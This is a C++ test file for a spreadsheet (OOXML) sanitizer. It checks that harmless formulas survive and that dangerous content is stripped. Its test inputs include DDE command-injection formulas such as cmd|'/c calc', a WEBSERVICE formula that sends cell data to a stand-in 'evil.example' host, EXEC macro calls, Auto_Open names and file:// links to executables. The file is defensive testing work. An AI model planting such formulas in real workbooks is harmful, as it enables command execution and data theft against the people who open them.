#include "expect.h"

#include "sanitizers/ooxml/formulas.h"

namespace mugai::test {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

std::string cell(const std::string& formula, const std::string& value = "42") { return "<row r=\"1\"><c r=\"A1\"><f>" + formula + "</f><v>" + value + "</v></c></row>"; }
std::string sheet(const std::string& rows, const std::string& workbook = "", const Profile& profile = {}) { return treated(OoxmlBytes::sheet(rows, workbook), "a.xlsx", profile); }

TEST(OoxmlSheet, HarmlessFormulasStay) {
  for (const char* formula : {"SUM(A1:B2)*1.1", "IF(A1=&quot;[1]a|b&quot;,1,2)", "VLOOKUP(A1,表!$A$1:$B$9,2,FALSE)", "Table1[[#This Row],[金額]]", "SUM(Table1[1])", "[@金額]*2",
                              "'別の 表'!A1", "_xlfn.XLOOKUP(A1,B:B,C:C)", "_xlfn._xlws.FILTER(A:A,B:B=1)", "_xlfn.LET(_xlpm.x,1,_xlpm.x+1)", "HYPERLINK(&quot;#Sheet2!A1&quot;,&quot;次&quot;)",
                              "ASC(A1)&amp;JIS(B1)&amp;DATESTRING(C1)", "A1 B1", "#REF!+1"})
    EXPECT_THAT(sheet(cell(formula)), HasSubstr("<f>")) << formula;
}

TEST(OoxmlSheet, FormulasThatReachOutsideBecomeTheirValues) {
  for (const char* formula : {"[1]Sheet1!A1", "'[1]Sheet 1'!A1+1", "'C:\\a\\[b.xlsx]S'!A1", "'\\\\evil\\s\\[b.xlsx]S'!A1", "cmd|'/c calc'!A0", "cmd | '/c calc' ! A0", "'cmd|/c calc'!A0",
                              "_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)", "webservice(A1)", "CALL(&quot;a&quot;,&quot;b&quot;)", "REGISTER.ID(1,2)", "EXEC(&quot;calc&quot;)",
                              "RTD(&quot;a&quot;,,1)", "_xlfn.IMAGE(&quot;http://evil.example&quot;)", "HYPERLINK(&quot;http://a.example&quot;)", "HYPERLINK(A1)",
                              "1+HYPERLINK (&quot;file://evil/&quot;&amp;A1)", "CUBEVALUE(&quot;a&quot;)", "MyMacro(1)", "_xll.addin(1)", "[2]!name"}) {
    const std::string all = sheet(cell(formula));
    EXPECT_THAT(all, Not(HasSubstr("<f>"))) << formula;
    EXPECT_THAT(all, HasSubstr("<v>42</v>")) << formula;
  }
}

TEST(OoxmlSheet, CellsThatShareAForbiddenFormulaLoseItTogether) {
  const std::string all = sheet("<row r=\"1\"><c r=\"A1\"><f t=\"shared\" ref=\"A1:A2\" si=\"0\">[1]S!B1</f><v>1</v></c></row><row r=\"2\"><c r=\"A2\"><f t=\"shared\" si=\"0\"/><v>2</v></c>"
                                "<c r=\"B2\"><f t=\"shared\" ref=\"B2:B3\" si=\"1\">A1+1</f><v>3</v></c></row><row r=\"3\"><c r=\"B3\"><f t=\"shared\" si=\"1\"/><v>4</v></c></row>");
  EXPECT_THAT(all, Not(HasSubstr("si=\"0\"")));
  EXPECT_THAT(all, HasSubstr("<f t=\"shared\" si=\"1\"/><v>4</v>"));
}

TEST(OoxmlSheet, HyperlinkFunctionsFollowTheProfile) {
  EXPECT_THAT(sheet(cell("HYPERLINK(&quot;https://a.example/&quot;,&quot;見る&quot;)"), "", keeping_links()), HasSubstr("HYPERLINK"));
  EXPECT_THAT(sheet(cell("HYPERLINK(&quot;https://a.example/&quot;&amp;A1)"), "", keeping_links()), Not(HasSubstr("HYPERLINK")));
}

TEST(OoxmlSheet, NamesThatRunGoAndNamesThatPointOutsidePointNowhere) {
  const std::string all = sheet(cell("1"), "<definedNames><definedName name=\"_xlnm.Auto_Open\">表!$A$1</definedName><definedName name=\"AUTO_CLOSE\" hidden=\"1\">x</definedName>"
                                           "<definedName name=\"m\" function=\"1\" vbProcedure=\"1\">x</definedName><definedName name=\"far\">[1]S!$A$1</definedName>"
                                           "<definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">表!$A$1:$B$2</definedName></definedNames>");
  EXPECT_THAT(all, Not(HasSubstr("uto_")));
  EXPECT_THAT(all, Not(HasSubstr("AUTO_")));
  EXPECT_THAT(all, Not(HasSubstr("vbProcedure")));
  EXPECT_THAT(all, HasSubstr("<definedName name=\"far\">#REF!</definedName>"));
  EXPECT_THAT(all, HasSubstr("表!$A$1:$B$2"));
}

TEST(OoxmlSheet, NoEmptyListIsLeft) {
  EXPECT_THAT(sheet(cell("1"), "<definedNames><definedName name=\"_xlnm.Auto_Open\">x</definedName></definedNames>"), Not(HasSubstr("definedNames")));
}

TEST(OoxmlSheet, MacroSheetsAreEmptiedAndKeepTheirPlace) {
  OoxmlBytes book = OoxmlBytes::sheet(cell("1"));
  book.replace_in("xl/workbook.xml", "</sheets>", "<sheet name=\"Macro1\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId2\"/><sheet name=\"D\" sheetId=\"3\" r:id=\"rId3\"/></sheets>");
  book.add("xl/macrosheets/sheet1.xml", "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><f>EXEC(\"calc\")</f></xm:macrosheet>", "application/vnd.ms-excel.macrosheet+xml");
  book.relate("xl/workbook.xml", "rId2", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml");
  book.add("xl/macrosheets/sheet2.xml", "<x/>", "application/vnd.ms-excel.macrosheet+xml").relate("xl/workbook.xml", "rId3", "worksheet", "/xl/macrosheets/sheet2.xml");
  const std::string all = treated(book, "a.xlsm");
  EXPECT_THAT(all, Not(HasSubstr("EXEC")));
  EXPECT_THAT(all, Not(HasSubstr("acrosheet")));
  EXPECT_THAT(all, HasSubstr("name=\"Macro1\" sheetId=\"2\" state=\"veryHidden\""));
  EXPECT_THAT(all, HasSubstr("=== xl/worksheets/sheet3.xml"));
}

TEST(OoxmlSheet, WhatReachesOutOfTheWorkbookGoes) {
  OoxmlBytes book = OoxmlBytes::sheet(cell("1"), "<externalReferences><externalReference r:id=\"rId5\"/></externalReferences><pivotCaches><pivotCache cacheId=\"1\" r:id=\"rId7\"/></pivotCaches>"
                                                 "<webPublishing/>");
  book.add("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml");
  book.relate("xl/workbook.xml", "rId5", "externalLink", "externalLinks/externalLink1.xml");
  book.add("xl/connections.xml", "<connections/>", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml").relate("xl/workbook.xml", "rId6", "connections", "connections.xml");
  book.add("xl/pivotCache/pivotCacheDefinition1.xml",
           "<pivotCacheDefinition xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><cacheSource type=\"external\" connectionId=\"1\"/></pivotCacheDefinition>",
           "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml");
  book.relate("xl/workbook.xml", "rId7", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml");
  const std::string all = treated(book, "a.xlsx");
  for (const char* gone : {"externalReference", "ddeLink", "connections", "pivotCache", "webPublishing"}) EXPECT_THAT(all, Not(HasSubstr(gone))) << gone;
  EXPECT_EQ(count_of(rebuild_file(book.file(), "a.xlsx"), "data-connection"), 2u);
}

TEST(OoxmlSheet, PivotTablesOverTheWorkbookItselfStay) {
  OoxmlBytes book = OoxmlBytes::sheet(cell("1"), "<pivotCaches><pivotCache cacheId=\"1\" r:id=\"rId7\"/></pivotCaches>");
  book.add("xl/pivotCache/pivotCacheDefinition1.xml",
           "<pivotCacheDefinition xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><cacheSource type=\"worksheet\"><worksheetSource ref=\"A1:B2\" sheet=\"表\"/></cacheSource></pivotCacheDefinition>",
           "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml");
  book.relate("xl/workbook.xml", "rId7", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml");
  EXPECT_THAT(treated(book, "a.xlsx"), HasSubstr("<worksheetSource ref=\"A1:B2\" sheet=\"表\"/>"));
}

TEST(OoxmlSheet, ObjectsControlsAndMacrosOfShapesGo) {
  OoxmlBytes book = OoxmlBytes::sheet(cell("1"));
  book.replace_in("xl/worksheets/sheet1.xml", "</sheetData>", "</sheetData><drawing r:id=\"rId3\"/><oleObjects><oleObject progId=\"Package\" shapeId=\"1\" r:id=\"rId1\"/></oleObjects>"
                                                              "<controls><control shapeId=\"2\" r:id=\"rId2\"/></controls>");
  book.add("xl/drawings/drawing1.xml",
           "<xdr:wsDr xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\"><xdr:sp macro=\"[0]!Evil\" textlink=\"[1]S!A1\"/><xdr:sp macro=\"\" textlink=\"$A$1\"/></xdr:wsDr>",
           "application/vnd.openxmlformats-officedocument.drawing+xml");
  book.relate("xl/worksheets/sheet1.xml", "rId3", "drawing", "../drawings/drawing1.xml");
  book.add("xl/embeddings/oleObject1.bin", "x", "application/vnd.openxmlformats-officedocument.oleObject").relate("xl/worksheets/sheet1.xml", "rId1", "oleObject", "../embeddings/oleObject1.bin");
  book.add("xl/activeX/activeX1.xml", "<x/>", "application/vnd.ms-office.activeX+xml").relate("xl/worksheets/sheet1.xml", "rId2", "control", "../activeX/activeX1.xml");
  const std::string all = treated(book, "a.xlsx");
  for (const char* gone : {"oleObject", "control", "activeX", "Evil", "[1]"}) EXPECT_THAT(all, Not(HasSubstr(gone))) << gone;
  EXPECT_THAT(all, HasSubstr("<xdr:sp macro=\"\" textlink=\"$A$1\"/>"));
}

TEST(OoxmlSheet, ControlsOfFormsKeepTheirCaptionsAndLoseTheirMacros) {
  OoxmlBytes book = OoxmlBytes::sheet(cell("1"));
  book.replace_in("xl/worksheets/sheet1.xml", "</sheetData>", "</sheetData><legacyDrawing r:id=\"rId1\"/>");
  book.add("xl/drawings/vmlDrawing1.vml",
           "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape id=\"s\"><v:textbox><div style=\"text-align:left\" onclick=\"x\"><font face=\"游\">"
           "同意する</font><script>x</script></div></v:textbox><x:ClientData ObjectType=\"Checkbox\"><x:FmlaMacro>[0]!Evil</x:FmlaMacro><x:FmlaLink>$A$1</x:FmlaLink><x:FmlaRange>[1]S!A1</x:FmlaRange>"
           "</x:ClientData></v:shape></xml>",
           "application/vnd.openxmlformats-officedocument.vmlDrawing");
  book.relate("xl/worksheets/sheet1.xml", "rId1", "vmlDrawing", "../drawings/vmlDrawing1.vml");
  const std::string all = treated(book, "a.xlsx");
  EXPECT_THAT(all, HasSubstr("<div style=\"text-align:left\"><font face=\"游\">同意する</font></div>"));
  EXPECT_THAT(all, HasSubstr("<xvml:FmlaLink>$A$1</xvml:FmlaLink>"));
  for (const char* gone : {"Evil", "onclick", "script", "[1]"}) EXPECT_THAT(all, Not(HasSubstr(gone))) << gone;
}

TEST(OoxmlSheet, LinksOfCellsFollowTheProfile) {
  OoxmlBytes book = OoxmlBytes::sheet(cell("1"));
  book.replace_in("xl/worksheets/sheet1.xml", "</sheetData>", "</sheetData><hyperlinks><hyperlink ref=\"A1\" r:id=\"rId1\"/><hyperlink ref=\"A2\" r:id=\"rId2\"/>"
                                                              "<hyperlink ref=\"A3\" location=\"'別'!A1\"/><hyperlink ref=\"A4\" location=\"[x.xlsx]S!A1\"/><hyperlink ref=\"A5\" r:id=\"rId2\" location=\"top\"/></hyperlinks>");
  book.relate("xl/worksheets/sheet1.xml", "rId1", "hyperlink", "mailto:a@example.jp", true).relate("xl/worksheets/sheet1.xml", "rId2", "hyperlink", "file:///c:/a.exe", true);
  const std::string all = treated(book, "a.xlsx", keeping_links());
  EXPECT_THAT(all, HasSubstr("mailto:a@example.jp"));
  EXPECT_THAT(all, Not(HasSubstr("A2")));
  EXPECT_THAT(all, HasSubstr("<hyperlink ref=\"A3\""));
  EXPECT_THAT(all, Not(HasSubstr("A4")));
  EXPECT_THAT(all, Not(HasSubstr("A5")));
}

TEST(OoxmlSheet, WhatLibreOfficeSaysOfItsFormulasGoesUncounted) {
  OoxmlBytes book = OoxmlBytes::sheet("<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>",
                                      "<extLst><ext xmlns:loext=\"http://schemas.libreoffice.org/\" uri=\"{7626C862-2A13-11E5-B345-FEFF819CDC9F}\"><loext:extCalcPr stringRefSyntax=\"CalcA1\"/></ext></extLst>");
  const RebuiltFile result = rebuild_file(book.file(), "a.xlsx");
  ASSERT_TRUE(result.left());
  EXPECT_TRUE(result.item().removed.empty());
  EXPECT_THAT(treated(book, "a.xlsx"), AllOf(Not(HasSubstr("extCalcPr")), Not(HasSubstr("extLst"))));
}

}  // namespace
}  // namespace mugai::test
